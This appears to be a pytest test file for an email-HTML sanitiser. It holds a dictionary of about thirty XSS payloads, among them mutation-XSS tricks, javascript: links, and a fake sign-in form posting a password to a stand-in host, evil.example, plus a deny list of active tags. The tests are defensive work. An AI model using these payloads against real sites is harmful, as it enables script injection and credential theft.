"""What is left of customers' HTML."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frontline.kernel.sanitising import sanitise

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "an event handler": '<img src="x" onerror="alert(1)">',
    "a handler after a slash": "<svg/onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that animates a link": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "mathml": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation through style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "a javascript link": '<a href="javascript:alert(1)">x</a>',
    "a javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a javascript link in entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "a vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "a data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a form": '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "a button that submits elsewhere": '<button formaction="https://evil.example">x</button>',
    "a frame": '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="x.swf"></object><embed src="x.swf">',
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "//evil.example"</style>',
    "a style over the page": '<div style="position:fixed;inset:0;z-index:99;background:url(//evil.example)">x</div>',
    "a style that runs": '<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</div>',
    "a style with an escape": '<div style="p\\6fsition:fixed">x</div>',
    "a video": '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>',
    "a picture with sources": '<picture><source srcset="https://evil.example/p"><img src="https://evil.example/p"></picture>',
    "a background": '<table background="https://evil.example/b"><tr><td background="https://evil.example/c">x</td></table>',
    "a shadow root": '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "an unclosed tag": "<img src=x onerror=alert(1) <b>",
    "htmx in an attribute": '<a hx-get="/accounts/logout/" hx-trigger="load" data-key="e">x</a>',
    "a name that shadows ours": '<a id="toasts" name="body">x</a><p id="main" class="skip">x</p>',
}


class _Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


HARMLESS = {
    "href", "rel", "target", "title", "lang", "dir", "style", "src", "alt", "width", "height", "loading", "class",
    "colspan", "rowspan", "align", "valign", "scope", "start", "type", "datetime", "tabindex",
}  # fmt: skip
PLAIN_STYLES = {"font-weight", "font-style", "text-decoration", "text-align", "text-transform", "vertical-align",
                "white-space", "list-style-type"}  # fmt: skip
ACTIVE = {
    "script", "style", "form", "input", "button", "iframe", "object", "embed", "base", "meta", "link", "svg", "math",
    "video", "audio", "source", "picture", "template", "textarea", "select",
}  # fmt: skip


def _assert_harmless(html: str) -> None:
    for tag, attributes in _Seen(html).tags:
        assert tag not in ACTIVE
        assert set(attributes) <= HARMLESS, attributes
        assert attributes.get("class", "fold") in {"fold", "remote-image"}
        for declaration in filter(None, attributes.get("style", "").split(";")):
            name, _, value = declaration.partition(":")
            assert name in PLAIN_STYLES, declaration
            assert not re.search(r"[(\\:]", value), declaration
        if "href" in attributes:
            assert re.match(r"(?i)(https?:|mailto:|tel:)", attributes["href"]), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if tag == "img":
            assert attributes["src"].startswith("/attachments/")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_that_acts_or_loads_is_left(attack):
    shown = sanitise(f"<p>before</p>{attack}<p>after</p>", cid_urls={})

    _assert_harmless(shown)
    assert "before" in shown


@given(st.text(alphabet=st.sampled_from("<>/='\"& abcisrtyleonhfgd:;()!-\\\t\n")) | st.text())
def test_any_text_at_all_comes_out_harmless(text):
    _assert_harmless(sanitise(text, cid_urls={"c": "/attachments/1/x.png"}))


def test_what_people_write_stays():
    written = '<p>Hello <b>you</b>, see <a href="https://acme.example/a?b=1&amp;c=2">this</a>.</p><ul><li>one</li></ul>'

    shown = sanitise(written, cid_urls={})

    assert "<b>you</b>" in shown
    assert 'href="https://acme.example/a?b=1&amp;c=2"' in shown
    assert "<ul><li>one</li></ul>" in shown


def test_text_that_looks_like_html_stays_text():
    assert sanitise("<p>a &lt;script&gt; &amp;lt; b</p>", cid_urls={}) == "<p>a &lt;script&gt; &amp;lt; b</p>"


def test_harmless_styles_stay_and_colours_go():
    shown = sanitise('<p style="font-weight:bold; color:red; position:absolute">x</p>', cid_urls={})

    assert shown == '<p style="font-weight:bold">x</p>'


def test_an_image_that_came_along_is_shown_from_us():
    shown = sanitise(
        '<img src="cid:Logo@Acme" alt="Logo" width="40">', cid_urls={"logo@acme": "/attachments/7/logo.png"}
    )

    assert shown == '<img src="/attachments/7/logo.png" alt="Logo" width="40" loading="lazy">'


def test_an_image_that_did_not_come_along_is_said_to_be_missing():
    shown = sanitise('<img src="cid:gone@acme">', cid_urls={})

    assert "<img" not in shown
    assert "did not come with the message" in shown


def test_a_remote_image_is_never_loaded_but_can_be_opened():
    shown = sanitise('<img src="https://cdn.example.com/a.png" alt="The <chart>">', cid_urls={})

    assert "<img" not in shown
    assert "Image not loaded: The &lt;chart&gt; (cdn.example.com)" in shown
    assert 'href="https://cdn.example.com/a.png"' in shown


def test_a_remote_image_inside_a_link_does_not_nest_links():
    shown = sanitise('<a href="https://a.example"><img src="https://cdn.example.com/a.png"></a>', cid_urls={})

    assert shown.count("<a ") == 1
    assert "cdn.example.com" in shown


def test_a_tracking_pixel_is_gone():
    assert sanitise('<p>x<img src="https://t.example/p" width="1" height="1"></p>', cid_urls={}) == "<p>x</p>"


def test_a_link_into_frontline_itself_leads_nowhere():
    assert "href" not in sanitise('<a href="/accounts/logout/">x</a><a href="#main">y</a>', cid_urls={})


@pytest.mark.parametrize(
    "quote",
    [
        "<blockquote>old <blockquote>older</blockquote></blockquote>",
        '<div class="gmail_quote gmail_x">old</div>',
    ],
)
def test_quoted_history_is_folded_once(quote):
    shown = sanitise(f"<p>new</p>{quote}<p>newer</p>", cid_urls={})

    assert shown.count("<details") == 1
    assert shown.index("new") < shown.index("<details") < shown.index("old") < shown.index("</details>")
    assert shown.endswith("<p>newer</p>")
    assert "gmail" not in shown


def test_code_that_scrolls_can_be_reached_by_keyboard():
    assert sanitise("<pre>x</pre>", cid_urls={}) == '<pre tabindex="0" role="group" aria-label="Code">x</pre>'
